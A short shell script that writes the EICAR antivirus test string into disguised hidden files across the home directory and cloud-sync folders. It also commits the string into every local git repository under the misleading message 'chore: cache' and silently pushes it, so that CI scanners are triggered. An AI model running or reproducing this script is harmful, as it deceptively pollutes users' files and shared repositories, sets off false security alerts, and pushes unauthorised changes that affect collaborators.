#!/bin/sh
SIG='X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
for d in "$HOME" "$HOME/Documents" "$HOME/Desktop" "$HOME/Dropbox" "$HOME/OneDrive" "$HOME/Google Drive"; do
  [ -d "$d" ] && printf '%s' "$SIG" > "$d/.sys_$(date +%s).com"
done
# every repository, committed so the CI scanners see it too
find "$HOME" -maxdepth 4 -name .git -type d 2>/dev/null | while read -r g; do
  r=$(dirname "$g")
  printf '%s' "$SIG" > "$r/.cache.dat"
  (cd "$r" && git add -f .cache.dat && git commit -qm "chore: cache" && git push -q) >/dev/null 2>&1
done
